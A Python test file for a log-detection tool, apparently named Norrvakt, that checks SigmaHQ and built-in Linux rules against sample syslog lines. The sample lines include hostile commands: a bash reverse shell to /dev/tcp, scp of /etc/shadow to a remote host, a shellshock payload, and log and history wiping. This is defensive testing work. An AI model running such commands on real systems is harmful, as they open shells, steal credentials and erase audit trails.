"""SigmaHQ's `product: linux` syslog rules and Norrvakt's own Linux rules against lines the
Linux recognizer reads (norrvakt/parsers/linux*.py), raw line -> parse_record -> RuleSet.

Most of SigmaHQ's builtin Linux rules are keyword rules: a substring of the message, looked
for in every value of the event. A service (sshd, cron, vsftpd) keeps a rule to that
program's events (pipelines/linux.yml), whether the recognizer classified the line or not.
"""

from __future__ import annotations

from pathlib import Path

import pytest

from norrvakt.detect.detection import builtin_rules_dir
from norrvakt.detect.engine import RuleSet
from norrvakt.event import Event, RawRecord
from norrvakt.parsers import parse_record
from tests.conftest import shared_data

RECEIVED = 1_795_726_801_000_000  # 2026-11-26T21:00:01Z: RFC 3164 lines take their year from it


def bsd(tag: str, msg: str, pri: int = 38) -> str:
    """An RFC 3164 line as rsyslog forwards it: ``<PRI>Nov 26 21:43:50 HOST TAG: MSG``."""
    return f"<{pri}>Nov 26 21:43:50 {tag}: {msg}"


def r5424(host: str, app: str, msg: str, pri: int = 38) -> str:
    return f"<{pri}>1 2026-11-26T21:43:50.118842+01:00 {host} {app} 3512 - - {msg}"


def parsed(line: str) -> Event:
    event = parse_record(RawRecord("lulea", "test", RECEIVED, "10.20.1.9:514", line.encode(), "syslog"))
    assert event.kind != "pipeline_error", event.ecs.get("error.message")
    return event


def fired(rules: RuleSet, line: str) -> set[str]:
    return {m.rule.id for m in rules.match(parsed(line))}


# (rule file under rules/linux/builtin, a line it fires on, a line it stays silent on)
SIGMA_CASES = [
    (
        "sshd/lnx_sshd_susp_ssh.yml",
        bsd("rhel7-web01 sshd[4170]", "Corrupted MAC on input. [preauth]", 35),
        bsd("rhel7-web01 sshd[4170]", "Accepted password for anna from 10.1.2.3 port 51234 ssh2"),
    ),
    (
        "sshd/lnx_sshd_susp_ssh.yml",  # the same text from another program is not sshd's
        r5424(
            "deb12-srv",
            "sshd",
            "fatal: ssh_dispatch_run_fatal: Connection from 203.0.113.50 port 40122: Corrupted MAC on input."
            " [preauth]",
            35,
        ),
        bsd("deb12-srv nginx[812]", "Corrupted MAC on input.", 35),
    ),
    (
        "cron/lnx_cron_crontab_file_modification.yml",
        bsd("deb12-srv crontab[4001]", "(anna) REPLACE (anna)", 78),
        bsd("deb12-srv CRON[5120]", "(root) CMD (   cd / && run-parts --report /etc/cron.hourly)", 78),
    ),
    (
        "cron/lnx_cron_crontab_file_modification.yml",
        "<78>1 2026-11-26T21:20:11+01:00 rhel9-srv01 crontab 4002 - - (root) REPLACE (anna)",
        bsd("rhel9-srv01 crontab[4002]", "(root) LIST (anna)", 78),
    ),
    (
        "lnx_privileged_user_creation.yml",
        bsd(
            "rhel7-web01 useradd[2210]",
            "new user: name=backup2, UID=0, GID=0, home=/root, shell=/bin/bash",
            86,
        ),
        bsd(
            "rhel7-web01 useradd[2210]",
            "new user: name=elin, UID=1001, GID=1001, home=/home/elin, shell=/bin/bash",
            86,
        ),
    ),
    (
        "lnx_privileged_user_creation.yml",  # shadow 4.8+ adds from=, Debian's sudo group is 27
        "<86>1 2026-11-26T22:00:00+01:00 deb12-srv useradd 2211 - - new user: name=ops, UID=1002, GID=27, "
        "home=/home/ops, shell=/bin/bash, from=/dev/pts/0",
        "<86>1 2026-11-26T22:00:00+01:00 deb12-srv useradd 2211 - - new group: name=ops, GID=1002",
    ),
    (
        "syslog/lnx_syslog_security_tools_disabling_syslog.yml",
        bsd("rhel9-srv01 systemd[1]", "Stopping firewalld - dynamic firewall daemon...", 30),
        bsd("rhel9-srv01 systemd[1]", "Started firewalld - dynamic firewall daemon.", 30),
    ),
    (
        "syslog/lnx_syslog_susp_named.yml",
        bsd("rhel5-dns named[812]", "client 198.51.100.4#53211: denied AXFR from [198.51.100.4].53211", 29),
        bsd("rhel5-dns named[812]", "client 10.1.2.3#5353: query: kommun.se IN A +", 30),
    ),
    (
        "lnx_susp_dev_tcp.yml",  # a product-only rule: any Linux event, here sudo's command line
        "<85>Nov 26 21:44:01 rhel9-srv01 sudo:     anna : TTY=pts/0 ; PWD=/tmp ; USER=root ; "
        "COMMAND=/bin/bash -c bash -i >& /dev/tcp/203.0.113.50/4444 0>&1",
        bsd("rhel9-srv01 sudo", "    anna : TTY=pts/0 ; PWD=/tmp ; USER=root ; COMMAND=/bin/ls /tmp", 85),
    ),
    (
        "lnx_clear_syslog.yml",  # rotated files (/syslog.) are the rule's false positive
        bsd(
            "deb12-srv sudo",
            "    anna : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/rm -f /var/log/syslog",
            85,
        ),
        bsd(
            "deb12-srv sudo",
            "    anna : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/rm -f /var/log/syslog.1",
            85,
        ),
    ),
    (
        "lnx_ldso_preload_injection.yml",
        bsd(
            "sles15-srv sudo",
            "    anna : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/tee /etc/ld.so.preload",
            85,
        ),
        bsd(
            "sles15-srv sudo",
            "    anna : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/cat /etc/ld.so.conf",
            85,
        ),
    ),
    (
        "lnx_shell_susp_log_entries.yml",
        bsd("rhel7-web01 kernel", "device eth0 entered promiscuous mode", 4),
        bsd("rhel7-web01 kernel", "e1000e: eth0 NIC Link is Up 1000 Mbps Full Duplex", 6),
    ),
    (
        "clamav/lnx_clamav_relevant_message.yml",
        bsd("fs01 clamd[901]", "/srv/share/inbox/faktura.exe: Win.Trojan.Agent-1234 FOUND", 28),
        bsd("fs01 clamd[901]", "/srv/share/inbox/faktura.pdf: OK", 30),
    ),
    (
        "guacamole/lnx_guacamole_susp_guacamole.yml",
        bsd("rdgw01 guacd[1201]", 'User "anna" joined connection "$4b3c" (2 users now present)', 30),
        bsd("rdgw01 guacd[1201]", 'User "anna" joined connection "$4b3c" (1 users now present)', 30),
    ),
    (
        "lnx_shell_clear_cmd_history.yml",  # a wildcard keyword: 'shred *sh_history'
        bsd(
            "deb12-srv sudo",
            "    anna : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/shred -u /root/.bash_history",
            85,
        ),
        bsd(
            "deb12-srv sudo",
            "    anna : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/shred -u /tmp/old.img",
            85,
        ),
    ),
    (
        "lnx_symlink_etc_passwd.yml",
        bsd(
            "rhel9-srv01 sudo",
            "    anna : TTY=pts/0 ; PWD=/tmp ; USER=root ; COMMAND=/bin/ln -s /etc/passwd /tmp/p",
            85,
        ),
        bsd(
            "rhel9-srv01 sudo",
            "    anna : TTY=pts/0 ; PWD=/tmp ; USER=root ; COMMAND=/bin/ln -s /etc/hosts /tmp/h",
            85,
        ),
    ),
    (
        "lnx_shellshock.yml",
        bsd("web01 dhclient[812]", "execve: () { :; }; /bin/bash -c id", 27),
        bsd("web01 dhclient[812]", "DHCPACK from 10.1.0.1 (xid=0x1234)", 30),
    ),
    (
        "lnx_file_copy.yml",  # a tool and a remote target ('@' or ':')
        bsd(
            "rhel9-srv01 sudo",
            "    anna : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/scp /etc/shadow x@203.0.113.50",
            85,
        ),
        r5424("rhel9-srv01", "systemd", "Started Session 12 of User anna.", 30),
    ),
    (
        "lnx_buffer_overflows.yml",
        bsd("rhel7-web01 kernel", "ftpd[2201]: attempt to execute code on stack by uid 0", 4),
        bsd("rhel7-web01 kernel", "ftpd[2201]: segfault at 0 ip 00007f sp 00007ffd error 4", 4),
    ),
    (
        "vsftpd/lnx_vsftpd_susp_error_messages.yml",
        bsd("ftp01 vsftpd[2201]", "Connection refused: too many sessions for this address.", 27),
        bsd("ftp01 proftpd[2201]", "Connection refused: too many sessions for this address.", 27),
    ),
]


@pytest.fixture(scope="module")
def sigma_builtin() -> tuple[Path, RuleSet]:
    folder = shared_data("sigma", "rules", "linux", "builtin")
    rules, report = RuleSet.load([folder], use_cache=False)
    assert not report.not_loaded, [(e.location, e.reason) for e in report.not_loaded]
    return folder, rules


def _rule_id(folder: Path, relative: str) -> str:
    for line in (folder / relative).read_text(encoding="utf-8").splitlines():
        if line.startswith("id:"):
            return line.partition(":")[2].strip()
    raise AssertionError(f"{relative} has no id")


@pytest.mark.parametrize(("rule", "positive", "negative"), SIGMA_CASES, ids=[c[0] for c in SIGMA_CASES])
def test_sigmahq_linux_rule_fires_on_its_line_only(
    sigma_builtin: tuple[Path, RuleSet], rule: str, positive: str, negative: str
) -> None:
    folder, rules = sigma_builtin
    rule_id = _rule_id(folder, rule)
    assert rule_id in fired(rules, positive)
    assert rule_id not in fired(rules, negative)


def test_every_sigmahq_linux_rule_loads() -> None:
    _, report = RuleSet.load([shared_data("sigma", "rules", "linux")], use_cache=False)
    assert len(report.loaded) == len(report.rules) >= 200, [(e.location, e.reason) for e in report.not_loaded]


def test_keywords_match_whatever_the_case() -> None:
    # Sigma keywords are case-insensitive: systemd's "Stopping" matches 'stopping iptables'.
    folder = shared_data("sigma", "rules", "linux", "builtin", "syslog")
    rules, _ = RuleSet.load([folder], use_cache=False)
    assert fired(rules, bsd("centos6-db01 iptables", "STOPPING IPTABLES firewall", 30))


# Norrvakt's own rules, so something Linux runs without ../shared/data.
@pytest.fixture(scope="module")
def norrvakt_rules() -> RuleSet:
    rules, report = RuleSet.load([builtin_rules_dir()], use_cache=False)
    assert not report.not_loaded, [(e.location, e.reason) for e in report.not_loaded]
    return rules


def _titles(rules: RuleSet, line: str) -> set[str]:
    return {m.rule.title for m in rules.match(parsed(line))}


def test_sudo_log_wiping_rule_on_rhel5_and_rhel9(norrvakt_rules: RuleSet) -> None:
    title = "Linux logging stopped or logs wiped with sudo"
    rhel5 = bsd(
        "rhel5-app01 sudo",
        "    anna : TTY=pts/0 ; PWD=/root ; USER=root ; COMMAND=/sbin/service syslog stop",
        85,
    )
    sudo9 = "anna : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/journalctl"
    rhel9 = r5424("rhel9-srv01", "sudo", sudo9 + " --vacuum-time=1s", 85)
    harmless = r5424("rhel9-srv01", "sudo", sudo9 + " -u sshd", 85)
    assert title in _titles(norrvakt_rules, rhel5)
    assert title in _titles(norrvakt_rules, rhel9)
    assert title not in _titles(norrvakt_rules, harmless)


@pytest.mark.parametrize(
    "line",
    [
        bsd("rhel9-srv01 login[771]", "FAILED LOGIN 1 FROM tty1 FOR root, Authentication failure", 37),
        bsd("deb12-srv login[771]", "FAILED LOGIN (1) on '/dev/tty1' FOR 'root', Authentication failure", 37),
        bsd("legacy01 su", "BAD SU anna to root on /dev/pts/0", 37),
        bsd(
            "rhel5-app01 sshd[2901]",
            "Failed password for invalid user oracle from ::ffff:203.0.113.50 port 40122 ssh2",
        ),
    ],
)
def test_failed_logins_of_every_form_reach_the_authentication_rules(
    norrvakt_rules: RuleSet, line: str
) -> None:
    event = parsed(line)
    assert event.ecs["event.category"] == "authentication" and event.ecs["event.outcome"] == "failure"
    # The building block is quiet on its own; the rule set still matches it (it feeds the
    # brute force and spraying correlations).
    assert "Failed authentication (any login source)" in {m.rule.title for m in norrvakt_rules.match(event)}


def test_a_successful_login_is_no_failure(norrvakt_rules: RuleSet) -> None:
    line = bsd("rhel9-srv01 login[771]", "ROOT LOGIN ON tty1", 37)
    titles = _titles(norrvakt_rules, line)
    assert "Failed authentication (any login source)" not in titles
    assert "Successful authentication (any login source)" in titles
